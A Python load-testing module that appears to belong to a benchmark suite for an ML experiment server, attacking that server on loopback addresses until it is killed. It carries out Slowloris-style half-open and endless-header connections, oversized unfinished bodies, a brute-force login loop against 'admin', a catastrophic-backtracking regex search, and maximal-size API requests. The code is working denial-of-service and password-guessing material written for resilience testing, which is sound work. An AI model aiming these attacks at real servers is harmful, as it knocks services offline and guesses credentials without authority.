"""Attacks on a master from other loopback addresses, in a process of their own, until killed.

Usage: python -m bench.load.attack KIND PORT TOKEN [TASK_ID [TRIAL_ID]]
"""

from __future__ import annotations

import asyncio
import itertools
import json
import sys
from collections.abc import Awaitable, Callable
from typing import Any
from urllib.parse import urlencode

HOST = "127.0.0.1"
HALF_OPEN = 2000
HEADS = 4
HEAD_BYTES = 150 * 1024 * 1024
BODIES = 8
BODY_BYTES = 90 * 1024 * 1024
GUESSES_A_SECOND = 1000
GUESSERS = 10
SEARCHES = 50
NEIGHBOURS = 200
"""Connections; each sends its next request when the last one is answered."""
PIECE = b"x" * 65536
SLOW = "a(?=.*z)"
"""Looks at the rest of the line from each of its characters."""


async def heads(port: int, token: str, _: str) -> None:
    """Half-open connections, endless heads and unfinished bodies, again whenever they end."""
    body = (
        f"POST /api/v1/experiments HTTP/1.1\r\nHost: m\r\nAuthorization: Bearer {token}\r\n"
        f"Content-Length: {BODY_BYTES}\r\n\r\n"
    ).encode()
    await asyncio.gather(
        *(_forever(port, n, b"GET /api/v1/me HTTP/1.1\r\n", 0) for n in range(HALF_OPEN)),
        *(_forever(port, n, b"GET / HTTP/1.1\r\nX: ", HEAD_BYTES) for n in range(HEADS)),
        *(_forever(port, n, body, BODY_BYTES - 1) for n in range(BODIES)),
    )


async def _forever(port: int, number: int, first: bytes, more: int) -> None:
    while True:
        await _once(port, first, more)
        await asyncio.sleep(0.5 + number % 100 / 100)


async def _once(port: int, first: bytes, more: int) -> None:
    """Send this and so many bytes, then hold the connection until the master ends it."""
    try:
        reader, writer = await asyncio.open_connection(HOST, port, local_addr=("127.0.0.2", 0))
    except OSError:
        return
    try:
        writer.write(first)
        for _ in range(more // len(PIECE)):
            writer.write(PIECE)
            await writer.drain()
        while await reader.read(65536):
            pass
    except OSError:
        pass
    finally:
        writer.close()


async def guesses(port: int, _: str, __: str) -> None:
    """Logins with wrong passwords, at a fixed rate from ten addresses."""
    for n in itertools.count():
        body = json.dumps({"username": "admin", "password": f"guess-{n}"}).encode()
        head = (
            "POST /api/v1/auth/login HTTP/1.1\r\nHost: m\r\nConnection: close\r\n"
            f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
        )
        _start(_request(port, f"127.0.0.{2 + n % GUESSERS}", head.encode() + body))
        await asyncio.sleep(1 / GUESSES_A_SECOND)


async def searches(port: int, token: str, task_id: str) -> None:
    """Fifty searches that take long, again whenever they end."""
    query = urlencode({"searchText": SLOW, "enableRegex": "true"})
    request = (
        f"GET /api/v1/tasks/{task_id}/logs?{query} HTTP/1.1\r\nHost: m\r\n"
        f"Authorization: Bearer {token}\r\nConnection: close\r\n\r\n"
    ).encode()

    async def again() -> None:
        while True:
            await _request(port, "127.0.0.2", request)

    await asyncio.gather(*(again() for _ in range(SEARCHES)))


async def neighbour(port: int, token: str, task_id: str, trial_id: str) -> None:
    """Requests at the bounds of lists, texts and files, of one user over many connections."""
    head = f"Host: m\r\nAuthorization: Bearer {token}\r\nConnection: close\r\n"
    requests = itertools.cycle(
        [
            f"{method} {path} HTTP/1.1\r\n{head}Content-Length: {len(body)}\r\n\r\n".encode()
            + body
            for method, path, body in at_the_bounds(task_id, trial_id)
        ]
    )

    async def again() -> None:
        for request in requests:
            await _request(port, "127.0.0.2", request)

    await asyncio.gather(*(again() for _ in range(NEIGHBOURS)))


def at_the_bounds(task_id: str, trial_id: str) -> list[tuple[str, str, bytes]]:
    """Method, path and body of requests that are as large as is allowed."""
    ids = list(range(1, 10_001))
    line = {"taskId": task_id, "log": "x" * 100 + "\n"}
    names = {f"metric{n}": 0.5 for n in range(10_000)}
    report = {"trialId": int(trial_id), "metrics": {"avgMetrics": names}}
    config = "".join(f"  h{n}: {n}\n" for n in range(15_000))
    small = "entrypoint: a\nsearcher: {name: single, metric: loss}\n"
    file = {"type": 48, "content": "", "mtime": "0", "mode": 33188}
    files = [{"path": f"d/{n}.py", **file} for n in range(50_000)]
    check = {"validateOnly": True}
    metadata = {f"k{n}": n for n in range(2_000)}
    bodies: list[tuple[str, str, Any]] = [
        ("POST", "/api/v1/projects/1/experiments/archive", {"experimentIds": ids}),
        ("POST", "/api/v1/task/logs", {"logs": [line] * 10_000}),
        ("POST", f"/api/v1/trials/{trial_id}/metrics", {"group": "training", "metrics": report}),
        ("POST", "/api/v1/experiments", {"config": f"hyperparameters:\n{config}", **check}),
        ("POST", "/api/v1/experiments", {"config": "a: " + "[" * 200_000, **check}),
        ("POST", "/api/v1/experiments", {"config": small, "modelDefinition": files, **check}),
        ("POST", f"/api/v1/runs/{trial_id}/metadata", {"metadata": metadata}),
        ("POST", "/api/ui/v1/links", {"state": {"x": "y" * 65_000}}),
    ]
    encoded = [(method, path, json.dumps(body).encode()) for method, path, body in bodies]
    return [*encoded, ("GET", "/api/v1/projects/1/columns", b"")]


async def _request(port: int, address: str, request: bytes) -> None:
    try:
        reader, writer = await asyncio.open_connection(HOST, port, local_addr=(address, 0))
        writer.write(request)
        while await reader.read(65536):
            pass
        writer.close()
    except OSError:
        pass


_running: set[asyncio.Task[None]] = set()


def _start(work: Awaitable[None]) -> None:
    task = asyncio.ensure_future(work)
    _running.add(task)
    task.add_done_callback(_running.discard)


KINDS: dict[str, Callable[..., Awaitable[None]]] = {
    "neighbour": neighbour,
    "heads": heads,
    "guesses": guesses,
    "searches": searches,
}


async def main(kind: str, port: str, token: str, *things: str) -> None:
    """Attack until killed."""
    await KINDS[kind](int(port), token, *(things or [""]))


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
